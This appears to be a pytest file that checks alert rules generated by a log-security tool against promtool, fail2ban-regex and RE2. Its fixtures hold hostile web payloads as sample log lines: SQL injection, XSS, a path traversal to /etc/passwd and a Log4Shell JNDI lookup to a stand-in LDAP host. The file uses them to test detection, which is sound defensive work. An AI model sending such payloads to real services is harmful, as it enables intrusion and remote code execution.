"""Generated alert rules checked by the tools that will run them: promtool and fail2ban-regex.

`.ci/run` installs both (Debian packages prometheus and fail2ban); a missing tool fails these tests
rather than skipping them: an unvalidated rule file is not a pass.
"""

from __future__ import annotations

import re
import shutil
import subprocess

import re2
import yaml

from bastion.logs import analyze_logs
from bastion.logs.alerts import alert_line
from bastion.logs.rulegen import RuleSettings, generate
from bastion.logs.rulegen.loki import _quote

from tests.logs.support import access, write


def _tool(name: str) -> str:
    path = shutil.which(name)
    assert path, f"{name} is not installed: .ci/run installs it (apt-get install prometheus fail2ban)"
    return path


def _write(tmp_path, files: dict[str, str]) -> None:
    for name, text in files.items():
        path = tmp_path / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)


def test_prometheus_rules_pass_promtool_check_and_their_unit_tests(tmp_path):
    _write(tmp_path, generate("prometheus"))
    checked = subprocess.run([_tool("promtool"), "check", "rules", "bastion-logs.rules.yml"], cwd=tmp_path,
                             capture_output=True, text=True, timeout=120)
    assert checked.returncode == 0 and "SUCCESS: 8 rules found" in checked.stdout, checked.stdout + checked.stderr
    tested = subprocess.run([_tool("promtool"), "test", "rules", "bastion-logs.rules.test.yml"], cwd=tmp_path,
                            capture_output=True, text=True, timeout=120)
    assert tested.returncode == 0 and "SUCCESS" in tested.stdout, tested.stdout + tested.stderr


def test_promtool_rejects_a_broken_rule_so_the_check_above_can_fail(tmp_path):
    files = generate("prometheus")
    _write(tmp_path, {"bad.yml": files["bastion-logs.rules.yml"].replace("increase(", "increase((", 1)})
    checked = subprocess.run([_tool("promtool"), "check", "rules", "bad.yml"], cwd=tmp_path, capture_output=True, text=True, timeout=120)
    assert checked.returncode != 0


def _fail2ban(tmp_path, log: str, filter_name: str) -> tuple[int, int]:
    done = subprocess.run([_tool("fail2ban-regex"), log, str(tmp_path / "filter.d" / f"{filter_name}.conf")],
                          capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stdout + done.stderr
    match = re.search(r"^Lines: (\d+) lines, \d+ ignored, (\d+) matched", done.stdout, re.M)
    assert match, done.stdout
    return int(match.group(2)), int(match.group(1))


def test_fail2ban_filters_match_attacks_and_leave_browsing_alone(tmp_path):
    _write(tmp_path, generate("fail2ban", RuleSettings(login_routes=("/login", "/api/session"))))
    benign = [access(f"198.51.100.{i}", p) for i, p in enumerate(["/", "/search?q=rock+and+roll", "/blog/union-select-2",
                                                                  "/cart?item=3&qty=1", "/login"])]
    attacks = [access("203.0.113.7", "/p?id=1%20UNION%20SELECT%20pass%20FROM%20users--"),
               access("203.0.113.7", "/s?q=%3Cscript%3Ealert(1)%3C/script%3E"),
               access("203.0.113.7", "/../../etc/passwd", 400),
               access("203.0.113.7", "/?x=${jndi:ldap://203.0.113.7/a}")]
    logins = [access("203.0.113.8", "/login", 401, method="POST"), access("203.0.113.8", "/api/session?u=a", 403, method="POST"),
              access("203.0.113.8", "/login", 302, method="POST")]
    scanner = [access("203.0.113.9", "/wp-admin", 404, agent="Mozilla/5.0 (compatible; Nmap Scripting Engine)")]
    log = write(tmp_path, "access.log", benign + attacks + logins + scanner)
    assert _fail2ban(tmp_path, log, "bastion-nginx-attacks") == (4, 13)
    assert _fail2ban(tmp_path, log, "bastion-nginx-auth") == (2, 13)
    assert _fail2ban(tmp_path, log, "bastion-nginx-scanners") == (1, 13)
    assert _fail2ban(tmp_path, log, "bastion-nginx-probing") == (3, 13)


def test_fail2ban_bans_what_bastion_alerted_on(tmp_path):
    _write(tmp_path, generate("fail2ban"))
    report = analyze_logs([write(tmp_path, "a.log", [access("203.0.113.7", "/p?id=1%2527%20OR%201=1--"),
                                                     access("203.0.113.8", "/?q=%3Csvg/onload=alert(1)%3E")])])
    alerts = write(tmp_path, "alerts.log", [alert_line(f) for f in report.findings])
    assert _fail2ban(tmp_path, alerts, "bastion-alerts") == (2, 2)
    jail = (tmp_path / "jail.d" / "bastion.local").read_text()
    assert "[bastion-alerts]" in jail and "filter   = bastion-alerts" in jail


def test_loki_rules_are_well_formed_logql_with_re2_regexes():
    document = yaml.safe_load(generate("loki")["bastion-logs.loki-rules.yml"])
    rules = document["groups"][0]["rules"]
    assert len(rules) == 9
    for rule in rules:
        expr = rule["expr"]
        outside = re.sub(r'"(?:[^"\\]|\\.)*"|`[^`]*`', "S", expr)  # string literals out of the way
        assert outside.count("(") == outside.count(")") and outside.count("{") == outside.count("}"), expr
        assert re.search(r"\[\d+m\]\)+ [>/]", outside), expr  # a range vector aggregated and compared
        for literal in re.findall(r'\|~ ("(?:[^"\\]|\\.)*")', expr):
            pattern = bytes(literal[1:-1], "utf-8").decode("unicode_escape")
            re2.compile(pattern)  # Loki's regexps are Go's RE2
            assert _quote(pattern) == literal
